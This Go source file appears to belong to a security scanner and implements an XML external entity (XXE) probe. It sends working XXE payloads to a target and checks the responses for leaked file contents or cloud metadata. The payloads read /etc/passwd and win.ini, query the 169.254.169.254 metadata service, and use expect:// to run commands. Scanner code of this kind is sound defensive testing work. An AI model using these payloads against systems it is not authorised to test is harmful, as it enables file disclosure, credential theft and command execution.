package vuln

import (
	"context"
	"fmt"
	"net/http"

	"github.com/buemura/surface/internal/scanner"
	"github.com/buemura/surface/pkg/types"
)

const xxeBenign = `<?xml version="1.0" encoding="UTF-8"?><data>surface</data>`

var xxePayloads = []string{
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data>&xxe;</data>`,
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<root>&xxe;</root>`,
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>
<data>&xxe;</data>`,
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<data>&xxe;</data>`,
	`<foo xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include parse="text" href="file:///etc/passwd"/></foo>`,
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
<soap:Body><foo>&xxe;</foo></soap:Body>
</soap:Envelope>`,
	`<?xml version="1.0" standalone="yes"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg width="500" height="100" xmlns="http://www.w3.org/2000/svg">
<text x="0" y="16">&xxe;</text>
</svg>`,
	`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>
<data>&xxe;</data>`,
}

var xxeIndicators = []string{
	"root:x:0:0",
	"daemon:",
	"nobody:",
	"www-data:",
	"[extensions]",
	"[boot loader]",
	"ami-id",
	"instance-id",
	"security-credentials",
	"uid=",
}

type xxeProbe struct{ base }

// NewXXE creates the XML external entity probe.
func NewXXE(cfg Config) scanner.Probe {
	return &xxeProbe{newBase(cfg, XXE, "XML external entity injection")}
}

func (p *xxeProbe) Run(ctx context.Context, target types.Target, progress scanner.ProgressFunc) ([]types.Finding, error) {
	var baseline string
	if resp, err := p.post(ctx, target, xxeBenign); err == nil {
		baseline = resp.Body
	}

	for i, payload := range xxePayloads {
		if ctx.Err() != nil {
			return nil, nil
		}
		progress.Notify(payload)

		resp, err := p.post(ctx, target, payload)
		if err != nil {
			p.skip(payload, err)
			continue
		}

		ind, ok := firstIndicator(resp.Body, baseline, xxeIndicators)
		if !ok {
			continue
		}

		p.log.Warn("XXE", "url", target.URL)
		return []types.Finding{{
			Name:        "XML External Entity (XXE) Injection",
			Severity:    types.SeverityHigh,
			Description: "The XML parser resolves external entities, disclosing local files or reaching internal services.",
			Evidence:    fmt.Sprintf("Payload #%d, indicator %q, response preview: %s", i+1, ind, truncate(resp.Body, 200)),
			URL:         target.URL,
			Remediation: "Disable DTD processing and external entity resolution in every XML parser.",
			Metadata: map[string]string{
				"indicator": ind,
			},
		}}, nil
	}

	return nil, nil
}

func (p *xxeProbe) post(ctx context.Context, target types.Target, body string) (*response, error) {
	return p.do(ctx, target, request{
		Method:      http.MethodPost,
		URL:         target.URL,
		Body:        body,
		ContentType: "application/xml",
		Header:      map[string]string{"Accept": "application/xml"},
	})
}
